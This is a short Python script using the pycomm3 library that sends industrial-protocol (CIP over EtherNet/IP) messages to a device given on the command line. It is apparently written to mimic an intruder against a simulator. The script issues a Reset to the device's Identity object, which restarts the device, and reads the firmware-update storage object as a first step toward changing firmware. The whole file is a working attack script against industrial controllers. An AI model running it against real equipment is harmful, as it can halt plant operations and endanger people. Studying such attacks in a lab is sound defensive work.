"""CIP services an intruder sends to an EtherNet/IP device (pycomm3's generic messages): a Reset
of the Identity object (the device restarts) and a read of the firmware-update object (class
0xA1, Non-Volatile Storage), the first step of a firmware change."""
import sys

from pycomm3 import CIPDriver, Services

with CIPDriver(sys.argv[1]) as driver:
    for name, service, cls, inst in (
        ("reset", Services.reset, 0x01, 1),
        ("firmware object", Services.get_attributes_all, 0xA1, 1),
    ):
        try:
            result = driver.generic_message(service=service, class_code=cls, instance=inst, connected=False, name=name)
            print(f"cip {name}: {result.error or 'ok'}")
        except Exception as e:  # the simulator does not answer every service
            print(f"cip {name}: {e}")
